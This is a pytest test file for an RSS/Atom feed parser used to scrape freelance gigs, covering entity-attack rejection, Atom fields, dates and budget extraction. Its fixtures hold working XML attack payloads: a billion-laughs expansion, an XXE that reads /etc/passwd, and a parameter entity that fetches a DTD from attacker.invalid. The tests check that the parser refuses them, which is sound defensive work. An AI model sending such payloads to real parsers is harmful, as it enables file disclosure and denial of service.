"""Tests for the generic RSS/Atom parser: safety against entity attacks, Atom, dates, budgets."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from scrapers.budget_text import find_budget
from scrapers.model import UNKNOWN_BUDGET, Budget, BudgetType
from scrapers.sources.feed import UnsafeXMLError, check_xml_safe, parse_feed

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>Jobs</title>
<item><title>&lol9;</title><link>https://example.com/1</link><description>&lol9;</description></item>
</channel></rss>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>Jobs</title>
<item><title>&xxe;</title><link>https://example.com/1</link></item>
</channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<rss version="2.0"><channel><item><title>t</title><link>https://example.com/1</link></item>
</channel></rss>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="id">
  <title>Lowongan Freelance</title>
  <id>urn:uuid:feed</id>
  <updated>2026-06-02T08:00:00+07:00</updated>
  <entry>
    <title type="html">Desain logo &amp;lt;UMKM&amp;gt;</title>
    <id>urn:uuid:entry-1</id>
    <link rel="alternate" href="https://example.id/gig/1"/>
    <updated>2026-06-02T08:00:00+07:00</updated>
    <published>2026-06-01T21:30:00+07:00</published>
    <category term="Desain Grafis"/>
    <category term="Logo"/>
    <summary>Ringkasan</summary>
    <content type="html">&lt;p&gt;Butuh logo untuk toko kopi.&lt;/p&gt;
      &lt;p&gt;Budget: Rp 750.000&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>Only updated</title>
    <id>urn:uuid:entry-2</id>
    <link href="https://example.id/gig/2"/>
    <updated>2026-06-02T01:15:00Z</updated>
    <summary>No budget stated here, but $5M raised last year.</summary>
  </entry>
</feed>
"""

NO_DATES = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Gigs</title><language>en-GB</language>
<item><title>Translate a menu</title><link>https://example.com/a</link>
<description>&lt;p&gt;Pay: &#163;20/hr, about 3 hours.&lt;/p&gt;</description></item>
<item><guid isPermaLink="false">gig-b</guid><title>Proofread a CV</title>
<link>https://example.com/b</link></item>
<item><title>Same link again</title><link>https://example.com/a</link></item>
<item><description>no title, no link</description></item>
</channel></rss>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_entity_declarations_are_refused_before_parsing(payload: bytes) -> None:
    with pytest.raises(UnsafeXMLError, match="entity"):
        parse_feed(payload, source="test")
    with pytest.raises(ValueError):  # UnsafeXMLError is a ValueError for callers
        check_xml_safe(payload)


def test_malformed_xml_with_entities_is_still_refused() -> None:
    # expat gives up at the first byte; the entity declaration must still be caught.
    payload = b"\x00garbage <!DOCTYPE x [<!ENTITY a 'b'>]><rss><channel/></rss>"
    with pytest.raises(UnsafeXMLError):
        parse_feed(payload, source="test")


def test_external_dtd_without_entities_is_allowed() -> None:
    payload = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><language>id</language>
<item><title>Butuh penulis</title><link>https://example.id/w</link>
<description>Budget: Rp 300.000</description></item></channel></rss>"""
    (gig,) = parse_feed(payload, source="old")
    assert (gig.title, gig.url, gig.language) == ("Butuh penulis", "https://example.id/w", "id")
    assert gig.budget == Budget(Decimal(300000), Decimal(300000), "IDR", BudgetType.FIXED)


def test_minimal_atom_feed() -> None:
    first, second = parse_feed(ATOM, source="atom_test")
    assert first.source == "atom_test"
    assert first.external_id == "urn:uuid:entry-1"
    assert first.url == "https://example.id/gig/1"
    assert first.title == "Desain logo <UMKM>"
    # content wins over summary; published wins over updated; +07:00 -> UTC
    assert first.text == "Butuh logo untuk toko kopi.\n\nBudget: Rp 750.000"
    assert first.posted_at == datetime(2026, 6, 1, 14, 30, tzinfo=UTC)
    assert first.tags == ("Desain Grafis", "Logo")
    assert first.budget == Budget(Decimal(750000), Decimal(750000), "IDR", BudgetType.FIXED)
    assert second.posted_at == datetime(2026, 6, 2, 1, 15, tzinfo=UTC)
    assert second.text == "No budget stated here, but $5M raised last year."
    assert second.budget is UNKNOWN_BUDGET


def test_feed_without_dates() -> None:
    gigs = parse_feed(NO_DATES, source="nodates")
    assert [g.external_id for g in gigs] == ["https://example.com/a", "gig-b"]
    menu, cv = gigs
    assert all(g.posted_at is None for g in gigs)
    assert menu.language == "en"
    assert menu.text == "Pay: £20/hr, about 3 hours."
    assert menu.budget == Budget(Decimal(20), Decimal(20), "GBP", BudgetType.HOURLY)
    assert cv.url == "https://example.com/b"
    assert cv.text == "" and cv.budget is UNKNOWN_BUDGET


def test_a_body_that_names_a_local_file_is_not_opened(tmp_path: Path) -> None:
    local = tmp_path / "local.rss"
    local.write_bytes(NO_DATES)
    # feedparser.parse(bytes) would open() this path and parse the local feed.
    assert parse_feed(str(local).encode(), source="x") == []


@pytest.mark.parametrize(
    "payload", [b"", b"   ", b"not xml at all", b"<html><body>hi</body></html>"]
)
def test_garbage_gives_no_gigs(payload: bytes) -> None:
    assert parse_feed(payload, source="x") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Rate: $50/hr", Budget(Decimal(50), Decimal(50), "USD", BudgetType.HOURLY)),
        ("bill up to $70 per hour", Budget(None, Decimal(70), "USD", BudgetType.HOURLY)),
        ("anywhere from $400-$4,000 US dollars a month",
         Budget(Decimal(400), Decimal(4000), "USD", BudgetType.SALARY)),
        ("Salary starting at USD $1800/mo", Budget(Decimal(1800), None, "USD", BudgetType.SALARY)),
        ("- €46,728 - €62,953 + shares",
         Budget(Decimal(46728), Decimal(62953), "EUR", BudgetType.SALARY)),
        ("budget Rp 500rb - 1jt",
         Budget(Decimal(500000), Decimal(1000000), "IDR", BudgetType.FIXED)),
        ("1000 USD per month", Budget(Decimal(1000), Decimal(1000), "USD", BudgetType.SALARY)),
        ("we raised $71M and closed a $1.1B deal", UNKNOWN_BUDGET),
        ("150-250k+ + equity", UNKNOWN_BUDGET),
        ("a coffee costs $5", UNKNOWN_BUDGET),
        ("", UNKNOWN_BUDGET),
    ],
)  # fmt: skip
def test_find_budget(text: str, expected: Budget) -> None:
    assert find_budget(text, lone_amounts=False) == expected
